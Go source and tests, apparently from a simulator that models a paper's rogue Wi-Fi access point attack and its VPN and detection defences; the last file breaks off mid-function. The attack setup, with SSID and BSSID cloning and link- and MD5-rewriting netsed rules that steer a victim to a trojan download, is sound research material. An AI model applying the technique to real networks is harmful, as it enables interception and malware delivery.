	ExtraNetsedRules []string
	// RoguePureRelay disables the MITM payload (bridge only).
	RoguePureRelay bool

	// VPNServer stands up the trusted endpoint on the wired side.
	VPNServer  bool
	VPNCarrier vpn.Carrier
	// VPNKeepalive, when non-zero, enables the victim tunnel's dead-peer
	// detection and self-healing reconnect at this probe interval.
	VPNKeepalive sim.Time

	// Overlay replaces the point-to-point tunnel carrier with the multi-hop
	// mesh: two relay hosts on the backbone, an exit node co-located with
	// the trusted endpoint, and a client node on the victim dialing both
	// relays. The victim's tunnel then rides an overlay stream and fails
	// over to the surviving chain when a relay dies. Implies VPNServer.
	Overlay bool
	// OverlayKeepalive is the per-link DPD probe interval of the mesh links
	// (default 1 s when Overlay is set; the links always need liveness — a
	// partitioned relay produces silence, not a TCP reset).
	OverlayKeepalive sim.Time

	// Faults names a chaos schedule for this world: either a builtin name
	// (faults.BuiltinNames) or a raw schedule string like
	// "apcrash@35s+3s;burst@50s+20s(loss=0.8)". Empty means no fault
	// injection — the world is byte-for-byte the same as before the fault
	// subsystem existed.
	Faults string

	// FileContents is the genuine download (default a small tarball-ish
	// blob); TrojanContents the attacker's replacement.
	FileContents   []byte
	TrojanContents []byte

	// VictimJoinPolicy (default JoinBestRSSI, what firmware does).
	VictimJoinPolicy dot11.JoinPolicy
}

func (c *Config) fill() {
	if c.SSID == "" {
		c.SSID = "CORP"
	}
	if c.APChannel == 0 {
		c.APChannel = 1
	}
	if c.RogueChannel == 0 {
		c.RogueChannel = 6
	}
	if c.VictimPos == (phy.Position{}) {
		c.VictimPos = phy.Position{X: 20, Y: 0}
	}
	if c.RoguePos == (phy.Position{}) {
		c.RoguePos = phy.Position{X: 25, Y: 0}
	}
	if c.FileContents == nil {
		c.FileContents = []byte("GENUINE-SOFTWARE-RELEASE-1.0 :: " +
			"useful program bytes that the user intends to run\n")
	}
	if c.TrojanContents == nil {
		c.TrojanContents = []byte("TROJANED-SOFTWARE :: looks the same, " +
			"plus a rootkit the user did not intend to run\n")
	}
	if c.Overlay {
		c.VPNServer = true
		if c.OverlayKeepalive == 0 {
			c.OverlayKeepalive = sim.Second
		}
	}
}

// World is a fully assembled scenario.
type World struct {
	Cfg    Config
	Kernel *sim.Kernel
	Medium *phy.Medium
	Alloc  ethernet.MACAllocator

	CorpSwitch     *ethernet.Switch
	BackboneSwitch *ethernet.Switch
	CorpAP         *dot11.AP
	// CorpUplink is the AP's port on the corp switch cable — the wire the
	// corrupt/dup faults chew on.
	CorpUplink *ethernet.Port

	// Faults is the chaos engine, non-nil iff Cfg.Faults named a schedule.
	Faults *faults.Engine

	Router    *Host
	Web       *Host
	WebServer *httpx.Server
	Site      *httpx.DownloadSite

	VPNHost   *Host
	VPNServer *vpn.Server

	// Overlay mesh (Cfg.Overlay): relay hosts and the four overlay nodes.
	Relay1, Relay2 *Host
	OverlayExit    *vpn.Node
	OverlayRelay1  *vpn.Node
	OverlayRelay2  *vpn.Node
	OverlayClient  *vpn.Node

	Victim       *WirelessHost
	VictimClient *httpx.Client
	VictimVPN    *vpn.Client

	Rogue *attack.RogueKit
	// RogueWeb serves the trojan from the attacker's gateway.
	RogueWeb *httpx.Server
}

// TrojanPath is where the attacker's gateway serves the trojan.
const TrojanPath = "/trojan.tgz"

// GenuineFile is the paper's advertised artifact name.
const GenuineFile = "file.tgz"

// NewWorld builds a scenario.
func NewWorld(cfg Config) *World {
	cfg.fill()
	w := &World{Cfg: cfg}
	w.Kernel = sim.NewKernel(cfg.Seed)
	w.Kernel.SetInvariantChecks(cfg.Checks)
	w.Kernel.SetWorkers(cfg.Workers)
	w.Medium = phy.NewMedium(w.Kernel, phy.Config{ShadowingSigmaDB: cfg.ShadowingSigmaDB})

	w.CorpSwitch = ethernet.NewSwitch(w.Kernel, &w.Alloc, ethernet.SwitchConfig{})
	w.BackboneSwitch = ethernet.NewSwitch(w.Kernel, &w.Alloc, ethernet.SwitchConfig{})

	// --- The real AP: wireless BSS bridged onto the corp switch. ---
	var acl []ethernet.MAC
	if cfg.MACFilter {
		acl = []ethernet.MAC{VictimMAC}
		if cfg.RogueStationMAC != (ethernet.MAC{}) && cfg.RogueStationMAC != VictimMAC {
			// The ACL lists only legitimate devices; a cloned MAC walks in
			// because it IS a listed value. Nothing to add here — that is
			// the point. (A distinct attacker MAC stays unlisted.)
			_ = acl
		}
	}
	apRadio := w.Medium.AddRadio(phy.RadioConfig{Name: "corp-ap", Pos: cfg.APPos, Channel: cfg.APChannel})
	w.CorpAP = dot11.NewAP(w.Kernel, apRadio, dot11.APConfig{
		SSID: cfg.SSID, BSSID: CorpBSSID, Channel: cfg.APChannel,
		WEPKey: cfg.WEPKey, MACAllow: acl,
	})
	w.CorpUplink = w.CorpSwitch.Attach(w.Alloc.Next())
	w.CorpAP.AttachUplink(w.CorpUplink)

	// --- Router between corp LAN and backbone. ---
	w.Router = newHost(w.Kernel, "router")
	w.Router.IP.Forwarding = true
	w.Router.AttachWired(w.CorpSwitch, &w.Alloc, "lan0", RouterCorp, CorpPrefix)
	w.Router.AttachWired(w.BackboneSwitch, &w.Alloc, "wan0", RouterBackbone, BackbonePrefix)
	// Return path for VPN tunnel addresses.
	w.Router.IP.AddRoute(ipv4.Route{Prefix: TunnelPrefix, Gateway: VPNEndpointIP, Iface: "wan0"})

	// --- Target web site (the paper's download page). ---
	w.Web = newHost(w.Kernel, "web")
	w.Web.AttachWired(w.BackboneSwitch, &w.Alloc, "eth0", WebServerIP, BackbonePrefix)
	w.Web.IP.AddDefaultRoute(RouterBackbone, "eth0")
	w.WebServer = httpx.NewServer(w.Web.TCP)
	w.Site = &httpx.DownloadSite{FileName: GenuineFile, Contents: cfg.FileContents}
	w.Site.Install(w.WebServer)
	if err := w.WebServer.Start(80); err != nil {
		panic(err)
	}

	// --- Optional trusted VPN endpoint on the wired side. ---
	if cfg.VPNServer {
		w.VPNHost = newHost(w.Kernel, "vpn-endpoint")
		w.VPNHost.IP.Forwarding = true
		w.VPNHost.AttachWired(w.BackboneSwitch, &w.Alloc, "eth0", VPNEndpointIP, BackbonePrefix)
		w.VPNHost.IP.AddDefaultRoute(RouterBackbone, "eth0")
		sCfg := vpn.ServerConfig{PSK: w.vpnPSK(), Carrier: cfg.VPNCarrier, TunnelPrefix: TunnelPrefix}
		var err error
		switch {
		case cfg.Overlay:
			w.buildOverlayMesh(sCfg)
		case cfg.VPNCarrier == vpn.CarrierUDP:
			w.VPNServer, err = vpn.NewServerUDP(w.VPNHost.IP, w.VPNHost.UDP, sCfg)
		default:
			w.VPNServer, err = vpn.NewServerTCP(w.VPNHost.IP, w.VPNHost.TCP, sCfg)
		}
		if err != nil {
			panic(err)
		}
	}

	// --- Victim laptop. ---
	w.Victim = w.newWirelessHost("victim", VictimMAC, VictimIP, cfg.VictimPos, cfg.VictimJoinPolicy)
	w.VictimClient = httpx.NewClient(w.Victim.TCP)
	if cfg.Overlay {
		// The victim's overlay node dials both relays from the start; the
		// links live on the reconnect ladder until the victim associates,
		// then come up and learn the route to the exit.
		w.OverlayClient = vpn.NewNode(w.Victim.IP, w.Victim.TCP, w.overlayNodeConfig("wanderer", vpn.RoleClient, nil))
		w.OverlayClient.AddPeer(inet.HostPort{Addr: Relay1IP, Port: vpn.OverlayPort})
		w.OverlayClient.AddPeer(inet.HostPort{Addr: Relay2IP, Port: vpn.OverlayPort})
	}

	// --- The attacker. ---
	if cfg.Rogue {
		w.buildRogue()
	}

	// --- Chaos engine (last: it targets the assembled pieces). ---
	if cfg.Faults != "" {
		w.installFaults()
	}
	return w
}

// installFaults resolves the configured schedule and arms the chaos engine
// against this world's components. Config errors panic, like every other
// construction-time misconfiguration in NewWorld.
func (w *World) installFaults() {
	sched, err := faults.Resolve(w.Cfg.Faults)
	if err != nil {
		panic(err)
	}
	hosts := map[string]*ipv4.Stack{
		"victim": w.Victim.IP,
		"router": w.Router.IP,
		"web":    w.Web.IP,
	}
	if w.VPNHost != nil {
		hosts["vpn-endpoint"] = w.VPNHost.IP
	}
	if w.Relay1 != nil {
		hosts["relay1"] = w.Relay1.IP
	}
	if w.Relay2 != nil {
		hosts["relay2"] = w.Relay2.IP
	}
	eng := faults.New(w.Kernel, faults.Targets{
		Medium:    w.Medium,
		AP:        w.CorpAP,
		STARadio:  w.Victim.Radio,
		VictimMAC: VictimMAC,
		BSSID:     CorpBSSID,
		Channel:   w.Cfg.APChannel,
		// The deauther/jammer stands right next to the victim, like the
		// rogue would.
		AttackPos:   phy.Position{X: w.Cfg.VictimPos.X + 2, Y: w.Cfg.VictimPos.Y},
		UplinkPorts: []*ethernet.Port{w.CorpUplink},
		Hosts:       hosts,
		DefaultHost: "victim",
	})
	if err := eng.Install(sched); err != nil {
		panic(err)
	}
	w.Faults = eng
}

// vpnPSK is the preestablished out-of-band secret.
func (w *World) vpnPSK() []byte { return []byte("corp-vpn-preshared-secret") }

// overlayNodeConfig builds one mesh node's config with the world's shared
// link parameters. Snappy link healing (1 s probes, 3 s silence budget,
// 500 ms–8 s backoff) keeps relay failover well inside the tunnel-level DPD
// budget the scenarios use.
func (w *World) overlayNodeConfig(name string, role vpn.Role, advertise []inet.Prefix) vpn.NodeConfig {
	return vpn.NodeConfig{
		Name: name, Role: role, PSK: w.vpnPSK(), Advertise: advertise,
		Keepalive:        w.Cfg.OverlayKeepalive,
		HandshakeTimeout: 2 * sim.Second,
		BackoffBase:      500 * sim.Millisecond,
		BackoffMax:       8 * sim.Second,
	}
}

// buildOverlayMesh stands up the relay hosts and overlay nodes: an exit on
// the trusted endpoint host advertising its address, two relays peered with
// it, and the tunnel server terminating overlay streams at the exit. The
// victim's client node is added later, once the victim exists.
func (w *World) buildOverlayMesh(sCfg vpn.ServerConfig) {
	mkRelay := func(name string, addr inet.Addr) *Host {
		h := newHost(w.Kernel, name)
		h.AttachWired(w.BackboneSwitch, &w.Alloc, "eth0", addr, BackbonePrefix)
		h.IP.AddDefaultRoute(RouterBackbone, "eth0")
		return h
	}
	w.Relay1 = mkRelay("relay1", Relay1IP)
	w.Relay2 = mkRelay("relay2", Relay2IP)

	exitPrefix := []inet.Prefix{{Addr: VPNEndpointIP, Bits: 32}}
	w.OverlayExit = vpn.NewNode(w.VPNHost.IP, w.VPNHost.TCP, w.overlayNodeConfig("exit", vpn.RoleExit, exitPrefix))
	if err := w.OverlayExit.Listen(); err != nil {
		panic(err)
	}
	mkNode := func(name string, h *Host) *vpn.Node {
		n := vpn.NewNode(h.IP, h.TCP, w.overlayNodeConfig(name, vpn.RoleRelay, nil))
		if err := n.Listen(); err != nil {
			panic(err)
		}
		n.AddPeer(inet.HostPort{Addr: VPNEndpointIP, Port: vpn.OverlayPort})
		return n
	}
	w.OverlayRelay1 = mkNode("relay1", w.Relay1)
	w.OverlayRelay2 = mkNode("relay2", w.Relay2)

	srv, err := vpn.NewServerStream(w.OverlayExit, sCfg)
	if err != nil {
		panic(err)
	}
	w.VPNServer = srv
}

func (w *World) newWirelessHost(name string, mac ethernet.MAC, ip inet.Addr, pos phy.Position, policy dot11.JoinPolicy) *WirelessHost {
	radio := w.Medium.AddRadio(phy.RadioConfig{Name: name, Pos: pos, Channel: 1})
	sta := dot11.NewSTA(w.Kernel, radio, dot11.STAConfig{
		MAC: mac, SSID: w.Cfg.SSID, WEPKey: w.Cfg.WEPKey,
		SharedKeyAuth: w.Cfg.SharedKeyAuth, JoinPolicy: policy,
	})
	h := &WirelessHost{Host: newHost(w.Kernel, name), STA: sta, Radio: radio}
	h.IP.AddIface("wlan0", sta.NIC(), ip, CorpPrefix)
	h.IP.AddDefaultRoute(RouterCorp, "wlan0")
	return h
}

// buildRogue assembles the attacker per Section 4 and serves the trojan
// from the gateway.
func (w *World) buildRogue() {
	cfg := w.Cfg
	bssid := CorpBSSID
	if !cfg.RogueCloneBSSID {
		bssid = ethernet.MustParseMAC("02:66:66:66:66:01")
	}
	staMAC := cfg.RogueStationMAC
	if staMAC == (ethernet.MAC{}) {
		staMAC = RogueSTAMAC
	}
	// Slashes inside a netsed rule must be %2f-escaped — the paper's own
	// command does exactly this ("the %2f is ASCII hex for the / character").
	trojanURL := "http:%2f%2f" + RogueWlan.String() + strings.ReplaceAll(TrojanPath, "/", "%2f")
	trojanSite := &httpx.DownloadSite{FileName: "trojan.tgz", Contents: cfg.TrojanContents}
	rules := []string{
		// The two rules from the paper's netsed command (Figure 2):
		// replace the link, then replace the published MD5 sum.
		"s/href=" + GenuineFile + "/href=" + trojanURL,
		"s/" + w.Site.MD5Hex() + "/" + trojanSite.MD5Hex(),
	}
	rules = append(rules, cfg.ExtraNetsedRules...)
	kit, err := attack.NewRogueKit(w.Kernel, w.Medium, cfg.RoguePos, attack.RogueKitConfig{
		SSID:            cfg.SSID,
		CloneBSSID:      bssid,
		Channel:         cfg.RogueChannel,
		WEPKey:          cfg.WEPKey,
		StationMAC:      staMAC,
		RogueTxPowerDBm: cfg.RogueTxPowerDBm,
		WlanIP:          RogueWlan,
		EthIP:           RogueEth,
		Prefix:          CorpPrefix,
		DefaultGW:       RouterCorp,
		TargetIP:        WebServerIP,
		NetsedRules:     rules,
		StreamingNetsed: cfg.StreamingNetsed,
		PoisonUpstream:  true,
		DisableMITM:     cfg.RoguePureRelay,
	})
	if err != nil {
		panic(err)
	}
	w.Rogue = kit
	// The gateway also serves the trojaned download itself ("a link to
	// http://gateway/trojan.tgz").
	w.RogueWeb = httpx.NewServer(kit.TCP)
	w.RogueWeb.Handle(TrojanPath, func(req *httpx.Request) *httpx.Response {
		return httpx.NewResponse(200, "application/octet-stream", cfg.TrojanContents)
	})
	if err := w.RogueWeb.Start(80); err != nil {
		panic(err)
	}
}

// NewSensor adds a monitor-mode ("rfmon") radio to the world — the WIDS
// sensor the detect scenario and tests attach a Detector to.
func (w *World) NewSensor(name string, pos phy.Position, ch phy.Channel) *dot11.Monitor {
	return dot11.NewMonitor(w.Medium.AddRadio(phy.RadioConfig{Name: name, Pos: pos, Channel: ch}))
}

// EnableVictimVPN brings up the paper's defense on the victim: a tunnel to
// the trusted endpoint carrying (by default) all traffic. Call after the
// victim associates; done fires on up/down.
func (w *World) EnableVictimVPN(split []inet.Prefix, done func(err error)) {
	if w.VPNServer == nil {
		panic("core: world built without VPNServer")
	}
	w.Victim.TCP.MSS = vpn.InnerMSS
	cfg := vpn.ClientConfig{
		PSK:                 w.vpnPSK(),
		Server:              inet.HostPort{Addr: VPNEndpointIP, Port: vpn.DefaultPort},
		Carrier:             w.Cfg.VPNCarrier,
		SplitTunnelPrefixes: split,
		Keepalive:           w.Cfg.VPNKeepalive,
	}
	var cli *vpn.Client
	var err error
	switch {
	case w.Cfg.Overlay:
		cli, err = vpn.ConnectOverlay(w.Victim.IP, w.OverlayClient, cfg)
	case w.Cfg.VPNCarrier == vpn.CarrierUDP:
		cli, err = vpn.ConnectUDP(w.Victim.IP, w.Victim.UDP, cfg)
	default:
		cli, err = vpn.ConnectTCP(w.Victim.IP, w.Victim.TCP, cfg)
	}
	if err != nil {
		done(err)
		return
	}
	w.VictimVPN = cli
	cli.OnUp = func(ip inet.Addr) { done(nil) }
	cli.OnDown = func(err error) { done(err) }
}

// Run advances the world by d of virtual time.
func (w *World) Run(d sim.Time) { w.Kernel.RunFor(d) }

// VictimConnect starts the victim's association process.
func (w *World) VictimConnect() { w.Victim.STA.Connect() }

// VictimOnRogue reports whether the victim is currently associated to the
// rogue AP (by channel, since the BSSID may be cloned).
func (w *World) VictimOnRogue() bool {
	if w.Rogue == nil {
		return false
	}
	return w.Victim.STA.State() == dot11.StateAssociated &&
		w.Victim.STA.BSS().Channel == w.Cfg.RogueChannel
}

// VictimAssociated reports whether the victim is associated to anything.
func (w *World) VictimAssociated() bool {
	return w.Victim.STA.State() == dot11.StateAssociated
}
