package core

import (
	"runtime"
	"testing"
)

// TestCampusDigestStability replays both campus scenarios across seeds, a
// GOMAXPROCS × kernel-workers grid, and repeated runs: every replay of
// (scenario, seed) must produce a byte-identical trace digest. The campus
// worlds run entirely on the sharded medium, so this is the determinism
// contract (DESIGN.md §8, §13) applied to the spatial-index delivery path.
// The GOMAXPROCS axis proves the schedule never leaks through
// core.Sweep-style parallelism or map iteration; the workers axis proves the
// conservative-window kernel (DESIGN.md §14) commits the exact serial
// schedule whatever the lane count or the scheduler's thread budget.
func TestCampusDigestStability(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	for _, name := range []string{"campus", "campus-rogue"} {
		for _, seed := range []uint64{1, 7, 42} {
			var want uint64
			first := true
			for _, procs := range []int{1, 4} {
				runtime.GOMAXPROCS(procs)
				for _, workers := range []int{0, 1, 4} {
					o, err := RunScenarioOpts(name, seed, ScenarioOpts{Workers: workers})
					if err != nil {
						t.Fatalf("%s seed %d: %v", name, seed, err)
					}
					if first {
						want = o.Digest
						first = false
						continue
					}
					if o.Digest != want {
						t.Errorf("%s seed %d GOMAXPROCS=%d workers=%d: digest %016x, want %016x",
							name, seed, procs, workers, o.Digest, want)
					}
				}
			}
		}
	}
}

// TestCampusPreparedCommits proves the core wiring reaches the phy's
// speculative-delivery path: a campus on the windowed kernel must commit a
// healthy share of its deliveries from prepares (stale ones — e.g. from scan
// retunes mid-flight — recompute serially and are counted, not lost).
func TestCampusPreparedCommits(t *testing.T) {
	o, err := RunScenarioOpts("campus-rogue", 1, ScenarioOpts{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	m := o.Campus.Medium
	total := m.PrepCommits + m.PrepStale
	if m.PrepCommits == 0 {
		t.Fatalf("no prepared deliveries committed (stale=%d)", m.PrepStale)
	}
	t.Logf("prep commits=%d stale=%d (%.0f%% hit)", m.PrepCommits, m.PrepStale,
		100*float64(m.PrepCommits)/float64(total))
}

// TestCampusRogueCaptures pins the qualitative §4 result at campus scale:
// the high-power SSID clone captures part of cluster 0 (but not the whole
// campus), harvests their traffic, and the rest of the ESS is unaffected.
func TestCampusRogueCaptures(t *testing.T) {
	o, err := RunScenario("campus-rogue", 1, true)
	if err != nil {
		t.Fatal(err)
	}
	r := o.CampusResult
	if r.Associated != r.STAs {
		t.Errorf("associated %d/%d stations", r.Associated, r.STAs)
	}
	if r.OnRogue == 0 {
		t.Error("rogue captured nobody")
	}
	if r.OnRogue >= r.STAs/campusScenarioAPs*2 {
		t.Errorf("rogue captured %d stations — more than its neighbourhood", r.OnRogue)
	}
	if r.RogueFrames == 0 {
		t.Error("rogue harvested no traffic")
	}
	if r.APFrames == 0 {
		t.Error("no traffic reached the legitimate APs")
	}
}

// TestCampusCleanHasNoRogue: without the rogue, every station lands on its
// home AP's BSSID and nothing is harvested.
func TestCampusCleanHasNoRogue(t *testing.T) {
	o, err := RunScenario("campus", 1, true)
	if err != nil {
		t.Fatal(err)
	}
	r := o.CampusResult
	if !o.Converged || r.Associated != r.STAs {
		t.Errorf("converged=%v, associated %d/%d", o.Converged, r.Associated, r.STAs)
	}
	if r.OnRogue != 0 || r.RogueFrames != 0 {
		t.Errorf("phantom rogue: OnRogue=%d RogueFrames=%d", r.OnRogue, r.RogueFrames)
	}
	for i, sta := range o.Campus.STAs {
		want := o.Campus.Topo.APs[o.Campus.Topo.STAs[i].Home].BSSID
		if got := sta.BSS().BSSID; got != want {
			t.Fatalf("sta %d associated to %v, want home AP %v", i, got, want)
		}
	}
}
