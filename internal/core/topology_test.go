package core

import (
	"math"
	"reflect"
	"testing"

	"repro/internal/sim"
)

func TestGenerateTopologyCampus(t *testing.T) {
	topo := GenerateTopology(TopologyConfig{Kind: TopoCampus, Seed: 1, APs: 12, STAs: 72})
	if err := topo.Validate(); err != nil {
		t.Fatal(err)
	}
	if len(topo.APs) != 12 || len(topo.STAs) != 72 {
		t.Fatalf("got %d APs / %d STAs", len(topo.APs), len(topo.STAs))
	}
	// Every cluster is populated (round-robin homes).
	perAP := make([]int, 12)
	for _, sta := range topo.STAs {
		perAP[sta.Home]++
	}
	for i, n := range perAP {
		if n != 6 {
			t.Errorf("AP %d has %d stations, want 6", i, n)
		}
	}
	// Grid neighbours never share a channel: the (row+2·col) mod 3
	// coloring differs across any single grid step.
	cols := int(math.Ceil(math.Sqrt(12)))
	for i, ap := range topo.APs {
		row, col := i/cols, i%cols
		for _, j := range []int{i + 1, i + cols} {
			if j >= len(topo.APs) {
				continue
			}
			jr, jc := j/cols, j%cols
			adjacent := (jr == row && jc == col+1) || (jr == row+1 && jc == col)
			if adjacent && topo.APs[j].Channel == ap.Channel {
				t.Errorf("grid neighbours %s and %s share channel %d",
					ap.Name, topo.APs[j].Name, ap.Channel)
			}
		}
	}
}

func TestGenerateTopologyDeterministic(t *testing.T) {
	cfg := TopologyConfig{Kind: TopoStadium, Seed: 99, APs: 30, STAs: 300}
	a, b := GenerateTopology(cfg), GenerateTopology(cfg)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same config generated different topologies")
	}
	cfg.Seed = 100
	c := GenerateTopology(cfg)
	if reflect.DeepEqual(a.STAs, c.STAs) {
		t.Fatal("different seeds generated identical station placements")
	}
}

func TestGenerateTopologyAllKindsValidate(t *testing.T) {
	for _, kind := range TopologyKinds() {
		for _, n := range []struct{ aps, stas int }{{1, 0}, {3, 7}, {16, 256}, {64, 1024}} {
			topo := GenerateTopology(TopologyConfig{Kind: kind, Seed: 7, APs: n.aps, STAs: n.stas})
			if err := topo.Validate(); err != nil {
				t.Errorf("%v %d/%d: %v", kind, n.aps, n.stas, err)
			}
		}
	}
}

func TestGenerateTopologyJoinWindow(t *testing.T) {
	win := 3 * sim.Second
	topo := GenerateTopology(TopologyConfig{Kind: TopoOffice, Seed: 5, APs: 4, STAs: 40, JoinWindow: win})
	for _, sta := range topo.STAs {
		if sta.JoinAt < 0 || sta.JoinAt >= win {
			t.Fatalf("%s joins at %v, outside [0, %v)", sta.Name, sta.JoinAt, win)
		}
	}
}

func TestValidateRejectsBrokenLayouts(t *testing.T) {
	base := func() *Topology {
		return GenerateTopology(TopologyConfig{Kind: TopoCampus, Seed: 1, APs: 4, STAs: 8})
	}
	for name, breakIt := range map[string]func(*Topology){
		"off-plan channel": func(t *Topology) { t.APs[0].Channel = 3 },
		"duplicate BSSID":  func(t *Topology) { t.APs[1].BSSID = t.APs[0].BSSID },
		"duplicate MAC":    func(t *Topology) { t.STAs[1].MAC = t.STAs[0].MAC },
		"orphan home":      func(t *Topology) { t.STAs[0].Home = 99 },
		"disconnected STA": func(t *Topology) { t.STAs[0].Pos.X += 5000 },
		"non-finite pos":   func(t *Topology) { t.APs[0].Pos.Y = math.NaN() },
		"negative join":    func(t *Topology) { t.STAs[0].JoinAt = -sim.Second },
	} {
		topo := base()
		breakIt(topo)
		if err := topo.Validate(); err == nil {
			t.Errorf("%s: Validate accepted a broken layout", name)
		}
	}
}

// FuzzTopologyGenerator: for ANY seed, kind, size, and spacing — including
// hostile floats — the generator must yield a layout that passes Validate
// (channel-legal, connected, unique addresses) and must be a pure function
// of its config.
func FuzzTopologyGenerator(f *testing.F) {
	f.Add(uint64(1), uint8(0), uint16(12), uint16(72), 55.0)
	f.Add(uint64(42), uint8(1), uint16(1), uint16(0), 0.0)
	f.Add(uint64(7), uint8(2), uint16(500), uint16(2000), 9999.0)
	f.Add(uint64(3), uint8(0), uint16(0), uint16(9), math.Inf(1))
	f.Add(uint64(9), uint8(1), uint16(3), uint16(30), math.NaN())
	f.Fuzz(func(t *testing.T, seed uint64, kind uint8, aps, stas uint16, spacing float64) {
		cfg := TopologyConfig{
			Kind:       TopologyKinds()[int(kind)%3],
			Seed:       seed,
			APs:        int(aps % 512),
			STAs:       int(stas % 2048),
			APSpacingM: spacing,
		}
		topo := GenerateTopology(cfg)
		if err := topo.Validate(); err != nil {
			t.Fatalf("config %+v: %v", cfg, err)
		}
		if again := GenerateTopology(cfg); !reflect.DeepEqual(topo, again) {
			t.Fatalf("config %+v: generator is not deterministic", cfg)
		}
	})
}
