package core

import (
	"fmt"

	"repro/internal/detect"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// This file defines the named end-to-end scenarios that cmd/roguesim runs
// and the determinism harness (internal/check) replays. Keeping them here —
// rather than inline in main() — means the binary and the tests execute the
// exact same event sequence, so a digest mismatch in tests is a real
// regression in what the demo does.

// Milestone is one timestamped line of scenario narrative.
type Milestone struct {
	At  sim.Time
	Msg string
}

// ScenarioOutcome is everything a scenario run produced. Which fields are
// meaningful depends on the scenario: Download for healthy/attack/vpn, the
// detector fields for detect.
type ScenarioOutcome struct {
	Name  string
	World *World
	// Digest is the kernel's trace digest at the end of the run — the value
	// check.AssertDeterministic compares across replays.
	Digest     uint64
	Milestones []Milestone

	// Download scenarios.
	Download DownloadResult
	VPNUp    bool
	VPNErr   error

	// Chaos scenarios: whether the world returned to steady state within
	// the bounded grace period after the last fault cleared.
	Converged bool

	// Detect scenario.
	Alerts     []detect.Alert
	FramesSeen uint64

	// Campus scenarios: the generated world (World is nil for these) and
	// its end-of-run observables.
	Campus       *CampusWorld
	CampusResult CampusResult
}

// ScenarioNames lists every runnable scenario, in a fixed order.
func ScenarioNames() []string {
	return []string{
		"healthy", "attack", "vpn", "mesh", "detect",
		"chaos-deauth", "chaos-apcrash", "chaos-burst", "chaos-relay",
		"campus", "campus-rogue",
	}
}

// ScenarioConfig builds the world configuration for a named scenario.
func ScenarioConfig(name string, seed uint64) (Config, error) {
	cfg := Config{Seed: seed}
	switch name {
	case "healthy":
	case "attack":
		cfg.WEPKey = wep.Key40FromString("SECRET")
		cfg.Rogue = true
		cfg.RogueCloneBSSID = true
		rogueGeometry(&cfg)
	case "vpn":
		cfg.WEPKey = wep.Key40FromString("SECRET")
		cfg.Rogue = true
		cfg.RogueCloneBSSID = true
		cfg.VPNServer = true
		rogueGeometry(&cfg)
	case "mesh":
		// The defended download rides the multi-hop overlay: the victim's
		// tunnel reaches the trusted endpoint through a relay chain instead
		// of a point-to-point carrier, with the rogue herding the victim
		// exactly as in the vpn scenario.
		cfg.WEPKey = wep.Key40FromString("SECRET")
		cfg.Rogue = true
		cfg.RogueCloneBSSID = true
		cfg.Overlay = true
		cfg.VPNKeepalive = 2 * sim.Second
		rogueGeometry(&cfg)
	case "detect":
		cfg.Rogue = true
		cfg.RogueCloneBSSID = true
		cfg.RoguePureRelay = true
		rogueGeometry(&cfg)
	case "chaos-deauth":
		// A forged-deauth storm lands during the association window; the
		// client must ride it out on the reconnect backoff ladder.
		cfg.Faults = "deauth-storm"
	case "chaos-apcrash":
		// The real AP reboots while the VPN tunnel is carrying a download.
		// Keepalives are on so the tunnel notices if its peer truly dies;
		// a 3 s outage is inside the DPD budget, so the session survives.
		cfg.VPNServer = true
		cfg.VPNKeepalive = 2 * sim.Second
		cfg.Faults = "ap-restart"
	case "chaos-burst":
		// A long Gilbert–Elliott bad-air window chews on the download.
		cfg.Faults = "burst-loss"
	case "chaos-relay":
		// The overlay's first-hop relay is partitioned mid-download: the
		// mesh withdraws its routes, the tunnel's DPD fires, and the chain
		// is rebuilt through the surviving relay — rekeyed, same tunnel IP.
		cfg.Overlay = true
		cfg.VPNKeepalive = 2 * sim.Second
		cfg.Faults = "relay-drop"
	case "campus", "campus-rogue":
		// Generated-topology scenarios have no single-victim Config; they
		// are dispatched directly by RunScenarioFaults.
		return Config{}, fmt.Errorf("core: scenario %q uses a generated topology and has no Config; use RunScenario", name)
	default:
		return Config{}, fmt.Errorf("core: unknown scenario %q", name)
	}
	return cfg, nil
}

// rogueGeometry is the demo placement: victim at the coverage edge of the
// real AP, rogue right next to the victim (paper §4's "stronger signal").
func rogueGeometry(cfg *Config) {
	cfg.APPos = phy.Position{X: 0, Y: 0}
	cfg.VictimPos = phy.Position{X: 40, Y: 0}
	cfg.RoguePos = phy.Position{X: 42, Y: 0}
}

// ScenarioOpts bundles the optional knobs shared by every scenario runner.
type ScenarioOpts struct {
	// Checks enables kernel invariant checking (violations panic).
	Checks bool
	// Faults, when non-empty, is a fault schedule (builtin name or raw
	// string) overriding whatever the scenario configures itself.
	Faults string
	// Workers selects the kernel execution mode: 0 (the default) is the
	// classic serial loop, n >= 1 the conservative-window parallel loop.
	// Digests are byte-identical either way.
	Workers int
}

// RunScenario executes a named scenario to completion. checks enables
// kernel invariant checking for the run (violations panic).
func RunScenario(name string, seed uint64, checks bool) (*ScenarioOutcome, error) {
	return RunScenarioOpts(name, seed, ScenarioOpts{Checks: checks})
}

// RunScenarioFaults runs a named scenario with a fault schedule (builtin
// name or raw string) overriding whatever the scenario configures itself.
// An empty schedule keeps the scenario's own. This is what the chaos
// sweeps drive.
func RunScenarioFaults(name string, seed uint64, checks bool, schedule string) (*ScenarioOutcome, error) {
	return RunScenarioOpts(name, seed, ScenarioOpts{Checks: checks, Faults: schedule})
}

// RunScenarioOpts is the full-knob scenario runner behind RunScenario and
// RunScenarioFaults; cmd/roguesim calls it directly.
func RunScenarioOpts(name string, seed uint64, opts ScenarioOpts) (*ScenarioOutcome, error) {
	if name == "campus" || name == "campus-rogue" {
		// Campus scenarios build a generated world, not the single-victim
		// Config world, so they dispatch before ScenarioConfig.
		return runCampusScenario(name, seed, opts), nil
	}
	cfg, err := ScenarioConfig(name, seed)
	if err != nil {
		return nil, err
	}
	cfg.Checks = opts.Checks
	cfg.Workers = opts.Workers
	if opts.Faults != "" {
		cfg.Faults = opts.Faults
	}
	if name == "detect" {
		return runDetectScenario(name, cfg), nil
	}
	return runDownloadScenario(name, cfg), nil
}

// convergenceGrace is the bounded window a chaos scenario gets to self-heal
// after its LAST fault clears. The convergence claim is checked exactly once
// at this deadline — no polling, no "eventually".
const convergenceGrace = 30 * sim.Second

func (o *ScenarioOutcome) milestonef(format string, args ...any) {
	var at sim.Time
	switch {
	case o.World != nil:
		at = o.World.Kernel.Now()
	case o.Campus != nil:
